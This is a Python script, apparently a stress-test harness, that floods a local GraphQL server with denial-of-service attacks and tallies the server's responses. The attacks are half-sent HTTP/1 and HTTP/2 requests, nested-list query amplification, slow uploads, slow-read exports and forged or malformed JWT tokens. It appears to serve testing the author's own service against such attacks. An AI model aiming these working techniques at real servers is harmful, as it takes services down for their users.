"""Attackers: attack.py PORT TOKENS SECONDS. Of each kind as many as ATTACKS says, or only of those that KINDS in the environment
names, from an address of the kind's own; whoever is refused or thrown out comes again after a while. Says when it begins, three
seconds before, and at the end what each kind was answered."""
import asyncio, collections, json, os, socket, struct, sys

port, tokens, seconds = int(sys.argv[1]), open(sys.argv[2]).read().split()[1:], float(sys.argv[3])
answers = collections.defaultdict(collections.Counter)
LINES = ["database index query plan latency cache", "conflict team deadline review incident design", "test deploy rollback monitor alert trace"]
PART = b"x" * 250_000  # of the 262,000 bytes that are announced


async def connect(kind, **options):
    reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(f"127.0.1.{list(ATTACKS).index(kind) + 1}", 0), **options)
    return reader, writer


def head(method, path, length, *headers):
    lines = [f"{method} {path} HTTP/1.1", "Host: localhost", "Content-Type: application/json", f"Content-Length: {length}", *headers]
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


async def answer(kind, reader):
    """Reads a response to its end and counts its status."""
    begin = (await reader.readuntil(b"\r\n\r\n")).decode("latin1").lower()
    answers[kind][begin.split()[1]] += 1
    if "content-length: " in begin:
        await reader.readexactly(int(begin.split("content-length: ")[1].split("\r")[0]))
    else:
        await reader.read()


async def ask(kind, reader, writer, body, *headers):
    writer.write(head("POST", "/graphql", len(body), *headers) + body)
    await writer.drain()
    await answer(kind, reader)


async def half_sent_body(kind, number):
    reader, writer = await connect(kind)
    try:
        writer.write(head("POST", "/graphql", 262_000) + PART)
        await answer(kind, reader)
    finally:
        writer.close()


def frame(type, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([type, flags]) + struct.pack(">I", stream) + payload


def field(name, value):
    """Of a header: literal, not indexed."""
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


async def half_sent_streams(kind, number):
    """700 streams of one HTTP/2 connection, as far as the server's windows allow."""
    DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
    reader, writer = await connect(kind)
    try:
        writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
        request = b"".join(field(*pair) for pair in [(":method", "POST"), (":scheme", "http"), (":path", "/graphql"), (":authority", "localhost"),
                                                     ("content-type", "application/json"), ("content-length", "262000")])
        for stream in range(1, 1400, 2):
            writer.write(frame(HEADERS, 4, stream, request))
        left, initial, window = dict.fromkeys(range(1, 1400, 2), len(PART)), 65_535, collections.Counter({0: 65_535})
        while True:
            for stream in list(left):
                size = min(left[stream], 16_384, window[0], window[stream] + initial)
                if size > 0:
                    writer.write(frame(DATA, 0, stream, PART[:size]))
                    left[stream] -= size
                    window[0] -= size
                    window[stream] -= size
            begin = await reader.readexactly(9)
            type, flags, stream = begin[3], begin[4], struct.unpack(">I", begin[5:])[0]
            payload = await reader.readexactly(int.from_bytes(begin[:3], "big"))
            if type == WINDOW_UPDATE:
                window[stream] += struct.unpack(">I", payload)[0]
            elif type == SETTINGS and not flags & 1:
                for name, value in struct.iter_unpack(">HI", payload):
                    initial = value if name == 4 else initial
                writer.write(frame(SETTINGS, 1, 0))
            elif type == PING and not flags & 1:
                writer.write(frame(PING, 1, 0, payload))
            elif type in (RST_STREAM, HEADERS):
                left.pop(stream, None)
                answers[kind]["reset" if type == RST_STREAM else "answered"] += 1
            elif type == GOAWAY:
                answers[kind]["go away"] += 1
                return
    finally:
        writer.close()


async def hidden_list_sizes(kind, number):
    """Asks for lists of $n, whose default is 1, and sends null."""
    field = "roleGuides(first:$n){edges{node{overview questions(first:$n){edges{node{prompt howToAnswer answers{body} guides{overview faqs{answer}}}}}}}}"
    query = "query($n:Int=1){" + " ".join(f"a{i}:{field}" for i in range(10)) + "}"
    reader, writer = await connect(kind)
    try:
        while True:
            await ask(kind, reader, writer, json.dumps({"query": query, "variables": {"n": None}}).encode())
    finally:
        writer.close()


async def expensive_search(kind, number):
    """Does not wait for long, and leaves."""
    reader, writer = await connect(kind)
    try:
        for round in range(1_000_000):
            if asyncio.get_running_loop().time() > end:
                return  # a cancellation that meets a timeout gets lost
            searches = " ".join(f'a{i}: search(text: "{LINES[i % 3]} {number} {round}", first: 50) {{ totalCount edges {{ node {{ excerpt }} }} }}' for i in range(6))
            await asyncio.wait_for(ask(kind, reader, writer, json.dumps({"query": "{" + searches + "}"}).encode()), 2)
    finally:
        writer.close()


async def trickled_import(kind, number):
    reader, writer = await connect(kind)
    reading = asyncio.create_task(answer(kind, reader))
    try:
        writer.write(head("POST", "/account/import", 50_000_000, "Authorization: Bearer " + tokens[number]) + b'{"format": 1, "x": "')
        while not reading.done():
            writer.write(b"x" * 1_000)
            await writer.drain()
            await asyncio.sleep(0.5)
    finally:
        writer.close()
        reading.cancel()
        await asyncio.gather(reading, return_exceptions=True)


async def unread_export(kind, number):
    with socket.socket() as small:
        small.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
        small.setblocking(False)
        small.bind((f"127.0.1.{list(ATTACKS).index(kind) + 1}", 0))
        loop = asyncio.get_running_loop()
        await loop.sock_connect(small, ("127.0.0.1", port))
        await loop.sock_sendall(small, head("GET", "/account/export", 0, "Authorization: Bearer " + tokens[-1]))
        status = None
        while part := await loop.sock_recv(small, 1_000):
            status = status or answers[kind].update([part[9:12].decode()]) or True
            await asyncio.sleep(1)


async def token_flood(kind, number):
    reader, writer = await connect(kind)
    try:
        for round in range(1_000_000):
            signed = tokens[0].split(".")
            token = [".", f"x.{round}.y", f"{signed[0]}.{signed[1]}.{round}", "a" * 4_000, "eyJhbGciOiJSUzI1NiIsImtpZCI6Im4ifQ." + signed[1] + "." + signed[2]][round % 5]
            await ask(kind, reader, writer, b'{"query": "{ viewer { id } }"}', "Authorization: Bearer " + token)
            await asyncio.sleep(0.05)
    finally:
        writer.close()


ATTACKS = {half_sent_body: 700, half_sent_streams: 1, hidden_list_sizes: 4, expensive_search: 150, trickled_import: 8, unread_export: 6, token_flood: 8}


async def hoard():
    """Saves what makes an export too large for the buffers on the way: 8 MB."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    kind, mine = "hoard", "Authorization: Bearer " + tokens[-1]

    async def send(query, variables=None):
        body = json.dumps({"query": query, "variables": variables}).encode()
        writer.write(head("POST", "/graphql", len(body), mine) + body)
        begin = (await reader.readuntil(b"\r\n\r\n")).decode("latin1").lower()
        return json.loads(await reader.readexactly(int(begin.split("content-length: ")[1].split("\r")[0])))

    questions = (await send("{ questions(first: 50) { edges { node { id } } } }"))["data"]["questions"]["edges"]
    for version in range(8):
        for edge in questions:
            await send("mutation ($i: SaveAnswerInput!) { saveAnswer(input: $i) { userErrors { code } } }",
                       {"i": {"questionId": edge["node"]["id"], "body": os.urandom(9_900).hex(), "expectedVersion": version}})
    writer.close()


async def again_and_again(kind, number):
    while asyncio.get_running_loop().time() < end:
        try:
            await kind(kind, number)
        except (OSError, asyncio.IncompleteReadError, asyncio.TimeoutError) as e:
            answers[kind]["gave up" if isinstance(e, asyncio.TimeoutError) else "thrown out"] += 1
        await asyncio.sleep(5 if kind in (half_sent_body, half_sent_streams) else 0.2)


async def main():
    await hoard()
    print("the attack begins", flush=True)
    await asyncio.sleep(3)
    global end
    end = asyncio.get_running_loop().time() + seconds
    tasks = [asyncio.create_task(again_and_again(kind, number)) for kind, count in ATTACKS.items()
             if kind.__name__ in os.environ.get("KINDS", kind.__name__).split() for number in range(count)]
    await asyncio.sleep(seconds)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    for kind, counted in answers.items():
        print(f"  {kind.__name__}: " + ", ".join(f"{count} times {status}" for status, count in counted.most_common()))


asyncio.run(main())
